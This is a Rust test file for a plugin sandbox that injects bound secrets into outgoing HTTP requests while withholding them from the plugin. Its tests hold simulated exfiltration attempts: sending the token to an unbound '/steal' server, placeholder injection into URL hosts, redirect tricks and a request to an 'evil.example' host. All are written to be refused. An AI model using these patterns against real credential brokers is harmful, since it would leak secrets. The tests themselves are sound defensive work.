//! Secrets reach the destination they are bound to, and never the plugin.

use super::*;

#[test]
fn an_allowed_request_carries_the_secret_the_plugin_never_sees() {
    let (a, b) = (Server::start(), Server::start());
    let (dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [
            request("POST", &a.url("/api/echo"), json!([["Authorization", "Bearer {{secret.token}}"]]), "subject={subject}"),
            request("GET", &a.url("/api/q?key={{secret.token}}"), json!([]), ""),
            request("GET", &a.url("/api/basic"), json!([["Authorization", "Basic bot:{{secret.token}}"]]), ""),
        ]}),
    );
    // The server got the secret, in each form.
    assert!(a.saw(&format!("Authorization: Bearer {SECRET}")));
    assert!(a.saw(&format!("GET /api/q?key={SECRET} ")));
    use base64::Engine as _;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("bot:{SECRET}"));
    assert!(a.saw(&format!("Authorization: Basic {basic}")));
    assert!(a.saw("subject=Printer on fire"));
    // The echo reflected the secret, so the plugin got none of it.
    for (i, line) in lines.iter().enumerate() {
        assert!(line.starts_with(&format!("#{i} error=denied")), "{line}");
        assert!(line.contains("withheld"), "{line}");
        assert!(!line.contains(&basic), "{line}");
    }
    // Audited with the agreed keys.
    let d = &records[0].details;
    assert_eq!(d["withheld"], "reflected-secret");
    assert_eq!(d["destination"], format!("http://{}", a.addr));
    assert_eq!(d["method"], "POST");
    // The declared path, and a digest of the URL as written.
    assert_eq!(d["path"], "/api");
    assert!(d["url_digest"].starts_with('#'), "{d:?}");
    assert_eq!(d["status"], "200");
    assert!(d["bytes_out"].parse::<u64>().unwrap() > 0);
    assert!(d["bytes_in"].parse::<u64>().unwrap() > 0);
    assert_eq!(d["classes"], "ticket.subject");
    assert_eq!(records[1].details["path"], "/api");
    assert_ne!(records[1].details["url_digest"], d["url_digest"]);

    // Never returned by the API, and encrypted at rest.
    let inst = airlock.installation("secret-thief").unwrap();
    let public = serde_json::to_string(&inst.clone().public()).unwrap();
    assert!(!public.contains(SECRET) && !public.contains(&inst.secrets["token"]));
    assert!(public.contains("\"secrets_set\":[\"token\"]"), "{public}");
    assert!(!inst.settings.to_string().contains(SECRET));
    for file in ["airlock.db", "airlock.db-wal"] {
        if let Ok(bytes) = std::fs::read(dir.path().join(file)) {
            assert!(
                !bytes.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
                "{file}"
            );
        }
    }
    // An admin may update other settings without re-sending (or seeing) the secret.
    airlock
        .set_settings("secret-thief", json!({"label": "other"}))
        .unwrap();
    let (lines, _) = act(
        &airlock,
        json!({"requests": [request("GET", &a.url("/api/again"), json!([["X-Key", "{{secret.token}}"]]), "")]}),
    );
    assert!(lines[0].contains("withheld"), "{lines:?}");
    assert!(a.saw(&format!("X-Key: {SECRET}")));
}

#[test]
fn the_plugin_cannot_read_or_exfiltrate_the_secret() {
    let (a, b) = (Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let bearer = json!([["Authorization", "Bearer {{secret.token}}"]]);
    let (lines, records) = act(
        &airlock,
        json!({"read_settings": true, "requests": [
            // Echo it back from an allowed server, the placeholder in the body.
            request("POST", &a.url("/api/echo"), json!([]), "{{secret.token}}"),
            // Send it to a server it is not bound to.
            request("GET", &b.url("/steal"), bearer.clone(), ""),
            // A secret the manifest does not declare, a misspelt placeholder, and one in a
            // header name.
            request("GET", &a.url("/api/x"), json!([["X", "{{secret.other}}"]]), ""),
            request("GET", &a.url("/api/x"), json!([["X", "{{ secret.token }}"]]), ""),
            request("GET", &a.url("/api/x"), json!([["{{secret.token}}", "x"]]), ""),
            // A redirect from the bound server to the unbound one, with the secret.
            request("GET", &a.redirect("/api/r1", &b.url("/steal")), bearer, ""),
        ]}),
    );
    // Settings: the plain ones only.
    assert_eq!(lines[0], r#"settings.all={"label":"public"}"#);
    assert_eq!(lines[1], "settings.get=none");
    let lines = &lines[2..];
    refused(lines, &records, 0, "denied", "never in the body");
    refused(
        lines,
        &records,
        1,
        "denied",
        "secret `token` is not bound to",
    );
    refused(
        lines,
        &records,
        2,
        "denied",
        "not a secret setting of this plugin",
    );
    refused(lines, &records, 3, "denied", "malformed secret placeholder");
    refused(lines, &records, 4, "invalid", "invalid name");
    refused(lines, &records, 5, "denied", "redirect to");
    assert!(
        records[5].reason.contains("secret `token` is not bound"),
        "{}",
        records[5].reason
    );
    // A saw only the redirecting request (it may receive the token); B saw nothing.
    assert_eq!(a.requests(), 1);
    assert!(!b.saw(SECRET), "B got the secret");
    assert_eq!(b.requests(), 0);
}

/// Issue 12 (critical): a placeholder in the URL's host was substituted before the
/// destination check, and the refusal quoted the substituted URL back to the plugin.
#[test]
fn a_placeholder_in_the_host_is_refused_before_any_secret_is_read() {
    let (a, b) = (Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [
            request("GET", "https://{{secret.token}}/", json!([]), ""),
            request("GET", "https://{{secret.token}}.ssrf.test/", json!([]), ""),
            request("GET", &format!("http://{{{{secret.token}}}}@{}/api/x", a.addr), json!([]), ""),
            request("GET", "https://\\\\{{secret.token}}.ssrf.test/", json!([]), ""),
            request("GET", &format!("http:/{}/api/x", a.addr), json!([]), ""),
        ]}),
    );
    for i in 0..4 {
        refused(&lines, &records, i, "denied", "never in its scheme or host");
    }
    refused(&lines, &records, 4, "invalid", "must be absolute");
    // Nothing was sent anywhere, and no record names a host the plugin wrote.
    assert_eq!(a.requests() + b.requests(), 0);
    for r in &records {
        assert!(!r.details.contains_key("destination"), "{r:?}");
    }
}

/// Issue 12: a bound destination that echoes the secret back, in any encoding, gets its
/// whole response withheld; an undeclared host is never quoted.
#[test]
fn a_response_that_reflects_the_secret_is_withheld() {
    let (a, b) = (Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let bearer = json!([["Authorization", "Bearer {{secret.token}}"]]);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [
            request("GET", &a.url("/api/echo"), bearer, ""),
            request("GET", &a.url("/api/q?key={{secret.token}}"), json!([]), ""),
            request("GET", "https://vera-bigcorp.evil.example/", json!([]), ""),
        ]}),
    );
    refused(&lines, &records, 0, "denied", "withheld");
    refused(&lines, &records, 1, "denied", "withheld");
    refused(&lines, &records, 2, "denied", "an undeclared destination");
    assert_eq!(
        records[2].details["destination"],
        "an undeclared destination"
    );
    assert!(!lines[2].contains("evil"), "{}", lines[2]);
    assert!(a.saw(&format!("Authorization: Bearer {SECRET}")));
}
